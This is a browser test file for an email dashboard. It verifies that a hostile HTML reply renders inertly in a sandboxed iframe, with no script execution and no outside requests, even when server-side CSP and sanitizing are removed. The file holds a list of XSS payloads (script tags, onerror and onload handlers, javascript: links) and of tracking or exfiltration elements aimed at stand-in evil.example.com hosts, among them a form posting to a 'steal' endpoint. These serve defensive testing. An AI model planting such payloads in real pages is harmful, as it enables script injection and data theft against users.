import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { postSendgridReply, TestApi } from './support/api.js';
import { browserTestsEnabled, launchBrowser } from './support/browser.js';
import { type RunningServer, startServer } from './support/server.js';
import { openPage, signInThroughForm } from './support/session.js';

const email = 'security@acme.test';
const password = 'a long enough password';
const marker = 'XSS-MARKER';

// Every classic way for an email to run code or phone home; none of them may work in the dashboard.
const hostileHtml = [
  '<p>Hello from a <b>hostile</b> reply.</p>',
  `<script>console.log('${marker} script'); alert('${marker}')</script>`,
  `<img src="x" onerror="console.log('${marker} onerror'); alert(1)">`,
  `<a href="javascript:console.log('${marker} javascript-link');alert(2)">click me</a>`,
  `<svg onload="console.log('${marker} svg'); alert(3)"><circle r="4"></circle></svg>`,
  '<img src="https://tracker.example.com/pixel.gif?who=lucia" alt="pixel">',
  '<iframe src="https://evil.example.com/frame"></iframe>',
  '<div style="background-image:url(https://evil.example.com/bg.png)">styled</div>',
  '<link rel="stylesheet" href="https://evil.example.com/x.css">',
  `<form action="https://evil.example.com/steal"><button>Win a prize</button></form>`,
].join('\n');

describe.skipIf(!browserTestsEnabled())('hostile reply HTML', () => {
  let server: RunningServer;
  let browser: Browser;
  let customerId: string;

  beforeAll(async () => {
    [server, browser] = await Promise.all([startServer(), launchBrowser()]);
    const api = new TestApi(server.url);
    await api.signUp(email, password);
    const customer = await api.createCustomer({ email: 'mallory@evil.test', name: 'Mallory' });
    customerId = customer.id;
    const sent = await api.sendEmail(customer.id, 'Hello', 'Hi Mallory');
    await postSendgridReply(server.url, {
      to: sent.replyTo,
      from: 'Mallory <mallory@evil.test>',
      subject: 'Re: Hello',
      text: 'Hello from a hostile reply. click me',
      html: hostileHtml,
    });
    await api.waitForAnalyzedReply(customer.id);
  });

  afterAll(async () => {
    await browser?.close();
    await server?.stop();
  });

  test('renders the reply without running its code or loading remote content', async () => {
    const { page, watch } = await openPage(browser, 'en-US');
    await signInThroughForm(page, server.url, email, password);
    await page.goto(`${server.url}/customers/${customerId}`);
    const frame = page.locator('iframe.reply-frame');
    await frame.waitFor();

    expect(await frame.getAttribute('sandbox')).toBe('');
    const content = page.frameLocator('iframe.reply-frame');
    await content.getByText('Hello from a').waitFor();
    const link = content.getByText('click me');
    if ((await link.count()) > 0) await link.click({ timeout: 2_000 }).catch(() => undefined);
    const prize = content.getByText('Win a prize');
    if ((await prize.count()) > 0) await prize.click({ timeout: 2_000 }).catch(() => undefined);
    await page.waitForTimeout(1_000);

    expect(watch.dialogs).toEqual([]);
    expect(watch.console.filter((line) => line.includes(marker))).toEqual([]);
    expect(watch.outsideRequests).toEqual([]);
    // Nothing from the reply reached the app's own document.
    expect(await page.locator('body > #root script, #root img[onerror], #root svg[onload]').count()).toBe(0);
    expect(await page.evaluate(() => document.querySelectorAll('script:not([src])').length)).toBe(0);
  });

  test('stays inert on its own: no server sanitizing, no server CSP', async () => {
    const { page, watch } = await openPage(browser, 'en-US');
    await signInThroughForm(page, server.url, email, password);
    // Defence in depth: the page without the server's CSP header, and the raw hostile HTML as if
    // sanitizing had failed, so only the dashboard's own sandbox and frame policy stand in the way.
    await page.route(`${server.url}/customers/${customerId}`, async (route) => {
      const response = await route.fetch();
      const headers = { ...response.headers() };
      delete headers['content-security-policy'];
      await route.fulfill({ response, headers });
    });
    await page.route('**/api/v1/customers/*/timeline*', async (route) => {
      const response = await route.fetch();
      const body = (await response.json()) as { items: { type: string; html?: string | null }[] };
      for (const item of body.items) if (item.type === 'reply') item.html = hostileHtml;
      await route.fulfill({ response, json: body });
    });
    await page.goto(`${server.url}/customers/${customerId}`);
    const content = page.frameLocator('iframe.reply-frame');
    await content.getByText('Win a prize').waitFor();
    await content.getByText('click me').click({ timeout: 2_000 }).catch(() => undefined);
    await content.getByText('Win a prize').click({ timeout: 2_000 }).catch(() => undefined);
    await page.waitForTimeout(1_000);

    expect(watch.dialogs).toEqual([]);
    expect(watch.console.filter((line) => line.includes(marker))).toEqual([]);
    expect(watch.outsideRequests).toEqual([]);
  });

  test('shows the same reply as plain text on request', async () => {
    const { page, watch } = await openPage(browser, 'en-US');
    await signInThroughForm(page, server.url, email, password);
    await page.goto(`${server.url}/customers/${customerId}`);
    await page.getByRole('button', { name: 'Plain text' }).click();
    await page.getByText('Hello from a hostile reply. click me').waitFor();
    expect(await page.locator('iframe.reply-frame').count()).toBe(0);
    expect(watch.dialogs).toEqual([]);
    expect(watch.outsideRequests).toEqual([]);
  });
});
